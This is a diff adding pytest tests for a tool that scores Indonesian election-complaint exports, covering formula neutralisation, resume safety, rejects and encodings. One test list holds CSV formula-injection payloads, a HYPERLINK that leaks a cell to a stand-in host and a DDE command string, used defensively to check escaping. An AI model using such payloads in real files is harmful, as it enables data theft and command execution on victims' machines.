@@ -103,7 +103,7 @@ def test_excel_input_with_sheet_and_control_characters(tmp_path, model_dir):
 def test_bad_files_give_clear_errors(tmp_path, model_dir, capsys, content, reason):
     inp = tmp_path / "bad.csv"
     inp.write_text(content, encoding="utf-8")
-    assert run(model_dir, inp, tmp_path / "o.csv") == 2
+    assert run(model_dir, inp, tmp_path / "o.csv", "--strict") == 2
     err = capsys.readouterr().err
     assert reason in err and "bad.csv" in err
 
@@ -197,3 +197,276 @@ def test_score_batch_is_the_pure_core(model_dir):
     assert [list(r) for r in recs] == [[f"p_{lab}" for lab in LABELS] + ["labels", "priority", "evidence"]] * 2
     assert "money_politics" in recs[0]["labels"].split(";") and "0812" not in recs[0]["evidence"]
     assert score_batch(predictor, [], Policy()) == []
+
+
+FORMULAS = ["=1+1", '=HYPERLINK("http://x.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
+
+
+def test_formula_cells_are_neutralised_in_csv_and_xlsx(tmp_path, model_dir):
+    inp = tmp_path / "in.jsonl"
+    inp.write_text("".join(json.dumps({"id": f, "text": f + " kades bagi amplop", "n": "-5"}) + "\n" for f in FORMULAS), encoding="utf-8")
+    assert run(model_dir, inp, tmp_path / "out.csv") == 0
+    rows = read_csv(tmp_path / "out.csv")
+    assert [r["id"] for r in rows] == ["'" + f for f in FORMULAS] and rows[0]["text"].startswith("'=")
+    assert rows[0]["n"] == "-5"  # a plain number is not a formula and keeps its value
+    assert run(model_dir, inp, tmp_path / "out.xlsx") == 0
+    import zipfile
+
+    sheet_xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml
+    values = [c.value for c in openpyxl.load_workbook(tmp_path / "out.xlsx").active["A"]][1:]
+    assert values[:6] == FORMULAS[:6]  # stored as text, unchanged (XML turns the lone CR into LF)
+    assert run(model_dir, inp, tmp_path / "raw.csv", "--allow-formulas") == 0
+    assert read_csv(tmp_path / "raw.csv")[0]["id"] == "=1+1"
+
+
+def _crash_after_first_chunk(monkeypatch, model_dir, inp, out, *extra):
+    real = service.score_chunk
+    calls = {"n": 0}
+
+    def crashing(*a, **k):
+        calls["n"] += 1
+        if calls["n"] == 2:
+            raise KeyboardInterrupt("simulated crash")
+        return real(*a, **k)
+
+    monkeypatch.setattr(service, "score_chunk", crashing)
+    with pytest.raises(KeyboardInterrupt):
+        run(model_dir, inp, out, "--chunk-size", "5", *extra)
+    monkeypatch.setattr(service, "score_chunk", real)
+
+
+def _rows(n, order=1):
+    return "id,text,phone\n" + "".join(f"{i},teks {i} kades bagi amplop hub 0812345678{i % 10}{i % 10},x\n" for i in range(n)[::order])
+
+
+@pytest.mark.parametrize(
+    "change,extra,expect",
+    [
+        ("reorder", (), "input"),  # same size, other order
+        ("edit", (), "input"),  # one letter, same size
+        ("none", ("--mask-pii",), "mask_pii"),
+        ("none", ("--text-column", "phone"), "text_column"),
+        ("none", ("--evidence", "none"), "evidence"),
+        ("model", (), "model"),
+    ],
+)
+def test_resume_refuses_a_changed_run(tmp_path, model_dir, monkeypatch, capsys, change, extra, expect):
+    inp, out = tmp_path / "in.csv", tmp_path / "out.csv"
+    inp.write_text(_rows(12), encoding="utf-8")
+    _crash_after_first_chunk(monkeypatch, model_dir, inp, out)
+    model = model_dir
+    if change == "reorder":
+        inp.write_text(_rows(12, order=-1), encoding="utf-8")
+    elif change == "edit":
+        inp.write_text(_rows(12).replace("teks 3", "teks 4"), encoding="utf-8")
+    elif change == "model":
+        import shutil
+
+        model = str(tmp_path / "other-model")
+        shutil.copytree(model_dir, model)
+        (tmp_path / "other-model" / "note.txt").write_text("retrained")
+    capsys.readouterr()
+    assert score.main(["--model", model, str(inp), "-o", str(out), "--chunk-size", "5", "--resume", *extra]) == 2
+    err = capsys.readouterr().err
+    assert "cannot resume" in err and expect in err and "Traceback" not in err
+    assert not out.exists()
+
+
+def test_input_columns_named_like_output_columns_are_kept(tmp_path, model_dir):
+    inp = tmp_path / "in.csv"
+    inp.write_text(
+        "id,text,status,labels,priority,evidence,p_hoax_hate,nn_status\n"
+        '1,"kades bagi amplop",Selesai,money_politics,Tinggi,foto,0.9,x\n2,,Baru,,Rendah,,,y\n',
+        encoding="utf-8",
+    )
+    out = tmp_path / "out.csv"
+    assert run(model_dir, inp, out) == 0
+    a, b = read_csv(out)
+    assert (a["status"], a["labels"], a["priority"], a["evidence"], a["p_hoax_hate"], a["nn_status"]) == (
+        "Selesai",
+        "money_politics",
+        "Tinggi",
+        "foto",
+        "0.9",
+        "x",
+    )
+    assert a["nn_nn_status"] == "ok" and "money_politics" in a["nn_labels"] and float(a["nn_priority"]) > 0
+    assert a["nn_p_hoax_hate"] != "0.9" and a["p_money_politics"] != ""  # no collision, no prefix
+    assert b["status"] == "Baru" and b["nn_nn_status"] == "empty text"
+    assert read_csv(tmp_path / "out.rejects.csv") == [{"row": "2", "id": "2", "reason": "empty text"}]
+
+
+@pytest.mark.parametrize("how", ["same", "dotdot", "rejects", "xlsx"])
+def test_output_or_rejects_equal_to_input_is_refused(tmp_path, model_dir, capsys, how):
+    (tmp_path / "sub").mkdir()
+    inp = tmp_path / "in.csv"
+    inp.write_text("id,text\n1,kades bagi amplop\n", encoding="utf-8")
+    before = inp.read_bytes()
+    extra = []
+    if how == "xlsx":
+        wb = openpyxl.Workbook()
+        wb.active.append(["id", "text"])
+        wb.active.append([1, "kades bagi amplop"])
+        wb.save(tmp_path / "in.xlsx")
+        inp = tmp_path / "in.xlsx"
+        before = inp.read_bytes()
+        out = inp
+    else:
+        out = {"same": inp, "dotdot": tmp_path / "sub" / ".." / "in.csv", "rejects": tmp_path / "out.csv"}[how]
+    if how == "rejects":
+        extra = ["--rejects", str(tmp_path / "sub" / ".." / "in.csv")]
+    assert run(model_dir, inp, out, *extra) == 2
+    err = capsys.readouterr().err
+    assert "is the input itself" in err and inp.read_bytes() == before
+
+
+def test_bad_lines_become_rejects_and_the_run_goes_on(tmp_path, model_dir, capsys):
+    inp = tmp_path / "in.csv"
+    good = [f"{i},kades bagi amplop nomor {i}" for i in range(1, 9)]
+    lines = good[:2] + ["90,satu,dua,tiga"] + good[2:4] + ["91,ada\rCR di tengah"] + good[4:] + ['92,"kutip tak ditutup']
+    inp.write_bytes(("id,text\n" + "\n".join(lines) + "\n").encode())
+    out = tmp_path / "out.csv"
+    assert run(model_dir, inp, out) == 0
+    rows = read_csv(out)
+    assert [r["id"] for r in rows if r["status"] == "ok"] == [str(i) for i in range(1, 9)]
+    reasons = {r["row"]: r["reason"] for r in read_csv(tmp_path / "out.rejects.csv")}
+    assert len(reasons) == 3 and all(v.startswith("bad record: ") for v in reasons.values())
+    assert "4 cells but the header has 2" in reasons["3"] and "line 4" in reasons["3"]
+    assert "rejected {'bad record': 3}" in capsys.readouterr().err
+    assert run(model_dir, inp, tmp_path / "strict.csv", "--strict") == 2
+
+
+def test_truncated_jsonl_line_is_a_reject(tmp_path, model_dir):
+    inp = tmp_path / "in.jsonl"
+    inp.write_text('{"id": 1, "text": "kades bagi amplop"}\n{"id": 2, "text": "kades b\n[1, 2]\n{"id": 3, "text": "camat ancam"}\n')
+    out = tmp_path / "out.jsonl"
+    assert run(model_dir, inp, out) == 0
+    rows = [json.loads(x) for x in out.read_text().splitlines()]
+    assert [r.get("id") for r in rows] == [1, None, None, 3]
+    assert [r["row"] for r in read_csv(tmp_path / "out.rejects.csv")] == ["2", "3"]
+
+
+def test_xlsx_formula_without_saved_value_is_reported(tmp_path, model_dir):
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(["id", "text"])
+    ws.append([1, "kades bagi amplop"])
+    ws.append([2, '=CONCAT("kades ","bagi amplop")'])  # openpyxl saves no cached value, like most programs
+    ws.append(["=1+2", '=CONCAT("a","b")'])
+    wb.save(tmp_path / "in.xlsx")
+    out = tmp_path / "out.csv"
+    assert run(model_dir, tmp_path / "in.xlsx", out) == 0
+    assert len(read_csv(out)) == 3
+    rejects = read_csv(tmp_path / "out.rejects.csv")
+    assert [r["row"] for r in rejects] == ["2", "3"] and "formula without a saved value in ['text']" in rejects[0]["reason"]
+
+
+def test_merged_records_are_reported(tmp_path, model_dir, capsys):
+    inp = tmp_path / "in.csv"
+    inp.write_text('id,text\n1,"kades bagi amplop\n2,camat ancam\n3,lurah bagi sembako"\n4,jalan rusak\n', encoding="utf-8")
+    assert run(model_dir, inp, tmp_path / "out.csv") == 0
+    assert "row 1 (line 2) may hold 3 merged records: lines [3, 4]" in capsys.readouterr().err
+
+
+def test_cp1252_semicolon_export_with_late_non_ascii(tmp_path, model_dir):
+    rows = [f"{i};2024-02-{i % 28 + 1:02d};Kades bagi amplop, sembako, dan kaos ke warga RT {i};WA" for i in range(3000)]
+    rows[2500] = "2500;2024-02-01;Pak Camat bilang “pilih nomor 2”, café;WA"  # past the 64 KiB sniff window
+    inp = tmp_path / "export.csv"
+    inp.write_bytes(("no_laporan;tanggal;isi_laporan;kanal\r\n" + "\r\n".join(rows) + "\r\n").encode("cp1252"))
+    out = tmp_path / "out.csv"
+    assert run(model_dir, inp, out, "--chunk-size", "1000") == 0
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        got = list(csv.DictReader(f, delimiter=";"))
+    assert len(got) == 3000 and all(r["status"] == "ok" for r in got)
+    assert got[2500]["isi_laporan"] == "Pak Camat bilang “pilih nomor 2”, café"
+
+
+def test_delimiter_encoding_and_header_row_options(tmp_path, model_dir):
+    inp = tmp_path / "in.txt"
+    inp.write_bytes("Rekap aduan Februari\nid|text\n1|kades bagi amplop, café\n".encode("cp1252"))
+    out = tmp_path / "out.jsonl"
+    assert run(model_dir, inp, out, "--header-row", "2", "--delimiter", "|", "--encoding", "cp1252") == 0
+    [row] = [json.loads(x) for x in out.read_text().splitlines()]
+    assert row["text"] == "kades bagi amplop, café" and row["status"] == "ok"
+    wb = openpyxl.Workbook()
+    wb.active.append(["Rekap aduan Februari"])
+    wb.active.append(["id", "isi"])
+    wb.active.append([1, "kades bagi amplop"])
+    wb.save(tmp_path / "in.xlsx")
+    assert run(model_dir, tmp_path / "in.xlsx", out, "--header-row", "2") == 0
+    assert json.loads(out.read_text())["isi"] == "kades bagi amplop"
+
+
+@pytest.mark.parametrize("sep", [";", "|", "\t"])
+def test_delimiter_is_read_from_the_header_line(tmp_path, model_dir, sep):
+    # Quoted words between commas made csv.Sniffer pick "," for these.
+    text = 'Warga bilang, "amplop", dari kades'
+    inp = tmp_path / "in.csv"
+    inp.write_text(sep.join(["id", "text", "unit"]) + "\n" + sep.join(["1", text, "A"]) + "\n", encoding="utf-8")
+    assert run(model_dir, inp, tmp_path / "out.jsonl") == 0
+    assert json.loads((tmp_path / "out.jsonl").read_text())["text"] == text
+
+
+def test_os_errors_and_bad_options_give_one_line(tmp_path, model_dir, capsys, monkeypatch):
+    inp = tmp_path / "in.csv"
+    inp.write_text("id,text\n1,kades bagi amplop\n", encoding="utf-8")
+    (tmp_path / "folder.csv").mkdir()
+    cases = {"folder.csv": "is a folder", "nope/out.csv": "does not exist", "out.parquet": "unknown output type"}
+    for name, reason in cases.items():
+        assert run(model_dir, inp, tmp_path / name) == 2
+        err = capsys.readouterr().err
+        assert reason in err and name.split("/")[0] in err and "Traceback" not in err
+    from netralitas_nlp.scoring import writers
+
+    def full(*a, **k):
+        raise OSError(28, "No space left on device", str(tmp_path / "out.csv.tmp"))
+
+    monkeypatch.setattr(service, "write_output", full)
+    assert run(model_dir, inp, tmp_path / "out.csv") == 2
+    assert "out.csv.tmp: No space left on device" in capsys.readouterr().err
+    assert writers.OUTPUT_SUFFIXES
+    for opt in (["--chunk-size", "0"], ["--chunk-size", "-3"], ["--max-chars", "0"], ["--delimiter", ";;"]):
+        with pytest.raises(SystemExit) as e:
+            run(model_dir, inp, tmp_path / "o.csv", *opt)
+        assert e.value.code == 2
+
+
+def fuzz_export(rng, n_rows: int) -> tuple[bytes, str, set[str]]:
+    """A random complaint export: delimiter, encoding, formula-like and comma-rich texts, one corrupted line.
+
+    Returns the bytes, the file suffix and the ids of the rows that are well-formed.
+    """
+    import random
+
+    assert isinstance(rng, random.Random)
+    sep = rng.choice([",", ";", "|", "\t"])
+    enc = rng.choice(["utf-8", "utf-8-sig", "cp1252"])
+    words = ["kades", "bagi", "amplop,", "camat", "ancam", "“pilih", "nomor", "2”", "café", "=1+1", "@x", "-", '"ya"']
+    lines, good = [sep.join(["id", "isi_laporan", "status"])], set()
+    bad_at = rng.randrange(n_rows)
+    for i in range(n_rows):
+        text = " ".join(rng.choice(words) for _ in range(rng.randint(1, 8)))
+        if i == bad_at:
+            lines.append(rng.choice([f"{i}{sep}x{sep}y{sep}z{sep}w", f"{i}{sep}lone\rcr{sep}s", f'{i}{sep}"open quote{sep}s']))
+            continue
+        lines.append(sep.join([str(i), '"' + text.replace('"', '""') + '"', rng.choice(["Baru", "Selesai"])]))
+        good.add(str(i))
+    return ("\n".join(lines) + "\n").encode(enc, errors="replace"), ".tsv" if sep == "\t" else ".csv", good
+
+
+@pytest.mark.parametrize("seed", range(12))
+def test_fuzzed_exports_never_stop_or_lose_rows(tmp_path, model_dir, capsys, seed):
+    import random
+
+    data, suffix, good = fuzz_export(random.Random(seed), 30)
+    inp = tmp_path / f"in{suffix}"
+    inp.write_bytes(data)
+    out = tmp_path / "out.jsonl"
+    assert run(model_dir, inp, out, "--chunk-size", "7") == 0
+    assert "Traceback" not in capsys.readouterr().err
+    rows = [json.loads(x) for x in out.read_text(encoding="utf-8").split("\n") if x]
+    assert good <= {r.get("id") for r in rows if r["nn_status"] == "ok"}  # every good row scored; input status kept
+    assert {r["status"] for r in rows if "status" in r} <= {"Baru", "Selesai", "s", "y"}  # "y": a bad line's own cell
+    rejected = read_csv(tmp_path / "out.rejects.csv")
+    assert sum(r["nn_status"] == "ok" for r in rows) + len(rejected) == len(rows)
